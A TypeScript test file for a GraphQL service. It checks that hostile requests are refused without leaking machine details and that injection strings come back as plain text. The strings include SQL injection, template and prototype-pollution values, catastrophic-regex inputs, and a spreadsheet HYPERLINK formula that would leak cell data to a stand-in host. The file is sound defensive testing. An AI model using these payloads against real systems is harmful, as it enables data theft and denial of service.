import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { buildSchema } from 'graphql';
import { askedFields, leastOf, withTextAtEach } from './support/generated-inputs.js';
import { HOSTILE_ADDRESSES } from './support/hostile/addresses.js';
import { HOSTILE_DOCUMENTS } from './support/hostile/documents.js';
import { hostileFiles } from './support/hostile/files.js';
import { codeOf, send } from './support/hostile/request.js';
import { startTestService } from './support/service.js';
import type { TestService } from './support/service.js';

const MIB = 1024 * 1024;
const REQUESTS = [...HOSTILE_DOCUMENTS, ...HOSTILE_ADDRESSES, ...(await hostileFiles())];
/** What may stay of all the requests together, bytes: what is kept of documents, and what a working service has anyway. */
const GROWTH_MAXIMUM = 64 * MIB;

let service: TestService;
let before: number;
beforeAll(async () => {
  service = await startTestService();
  for (const each of REQUESTS.slice(0, 3)) await send(service.url, each);
  before = held();
});
afterAll(() => service.close());

/** Bytes that are held, without what nobody holds any more. */
function held(): number {
  setFlagsFromString('--expose-gc');
  // Runs the collector: it is a function of contexts made after the flag was set.
  const collect = runInNewContext('gc') as () => void;
  collect();
  const { heapUsed, arrayBuffers } = process.memoryUsage();
  return heapUsed + arrayBuffers;
}

interface Landscape {
  readonly landscape: { readonly revision: number };
}

const revision = async (): Promise<number> =>
  (await service.askAs<Landscape>(null, '{ landscape { revision } }')).landscape.revision;

it('there are more than sixty', () => {
  expect(new Set(REQUESTS.map(({ name }) => name)).size).toBe(REQUESTS.length);
  expect(REQUESTS.length).toBeGreaterThan(60);
});

describe('is refused with its code, and tells nothing of the machine', () => {
  it.each(REQUESTS.map((each) => [each.name, each] as const))('%s', async (_name, each) => {
    const { status, body } = await send(service.url, each);
    expect({ status, code: codeOf(body) }).toEqual({ status: each.status, code: each.code });
    expect(body).not.toContain(process.cwd());
    expect(body).not.toMatch(/node_modules|\bat .*:\d+:\d+|root:x:|"name":\s*"khung"/);
  });
});

const INJECTIONS = [
  "x' OR '1'='1",
  '"; DROP TABLE element; --',
  '%',
  '\\',
  '$1',
  '${7*7}',
  '(a+)+$',
  '__proto__',
] as const;
/** Half of a character, and what a pattern that looks back would read for hours. */
const WORSE = [...INJECTIONS, '\ud800', `${'a'.repeat(50_000)}!`, `${' '.repeat(50_000)}x`, `${'1-'.repeat(25_000)}x`];
/** Milliseconds for one of them; the machine may be busy. */
const TIME_MAXIMUM = 5_000;

describe('what a database, a template or a pattern would take for its own is a text', () => {
  const document = (filter: string): string =>
    `query ($text: String!) { elements(filter: ${filter}) { totalCount nodes { urn } } }`;

  it.each([
    '{ name: { eq: $text } }',
    '{ name: { in: [$text] } }',
    '{ name: { startsWith: $text } }',
    '{ externalId: { eq: $text } }',
    '{ owner: { name: { contains: $text } } }',
    '{ relation: { some: { target: { name: { eq: $text } } } } }',
    '{ responsibility: { person: [$text] } }',
  ])('%s finds nothing', async (filter) => {
    for (const text of INJECTIONS) {
      const { data, errors } = await service.ask(document(filter), { variables: { text } });
      expect(errors ?? data).toEqual({ elements: { totalCount: 0, nodes: [] } });
    }
  });

  it('at every place of every question that takes a text', async () => {
    const schema = buildSchema(await (await fetch(`${service.url}/schema.gql`)).text());
    const asked = await revision();
    const unexpected: unknown[] = [];
    let count = 0;
    for (const { operation, field, document: query } of askedFields(schema)) {
      if (operation !== 'query') continue;
      const least = Object.fromEntries(field.args.map(({ name, type }) => [name, leastOf(type)]));
      for (const argument of field.args) {
        for (const value of withTextAtEach(argument.type, WORSE[count % WORSE.length] ?? '')) {
          count += 1;
          const variables = { ...least, [argument.name]: value };
          const begun = performance.now();
          const { errors = [] } = await service.ask(query, { variables, asAdministrator: true });
          const masked = errors.filter(({ extensions }) => String(extensions['code']).startsWith('INTERNAL'));
          const milliseconds = performance.now() - begun;
          if (masked.length > 0 || milliseconds > TIME_MAXIMUM) {
            unexpected.push({ field: field.name, variables, masked, milliseconds });
          }
        }
      }
    }
    expect(unexpected).toEqual([]);
    expect(count).toBeGreaterThan(200);
    expect(await revision()).toBe(asked);
  });
});

it('what a spreadsheet would take for a formula leaves as a text', async () => {
  const name = '=HYPERLINK("http://x.test?"&A1,"x")';
  const operations = [{ op: 'ADD', urn: 'urn:khung:cong-thuc', value: { kind: 'SYSTEM', name } }];
  const change =
    'mutation ($input: CommitChangeSetInput!) { commitChangeSet(input: $input) { userErrors { message } } }';
  const variables = { input: { reason: '@SUM(A1)', operations } };
  expect(await service.ask(change, { variables, asAdministrator: true })).toMatchObject({
    data: { commitChangeSet: { userErrors: [] } },
  });
  const text = await (await fetch(`${service.url}/exports/elements.csv?kind=SYSTEM`)).text();
  expect(text).toContain(`"'=HYPERLINK(""http://x.test?""&A1,""x"")"`);
  expect(text).not.toMatch(/(?:^|[,;"\n])[=@]/m);
});

describe('after all of that', () => {
  it('the service answers whoever means no harm', async () => {
    expect(await revision()).toBeGreaterThan(0);
    expect((await fetch(`${service.url}/health/ready`)).status).toBe(200);
    expect((await fetch(`${service.url}/`)).status).toBe(200);
  });

  it('no memory is held', () => {
    expect(held() - before).toBeLessThan(GROWTH_MAXIMUM);
  });
});
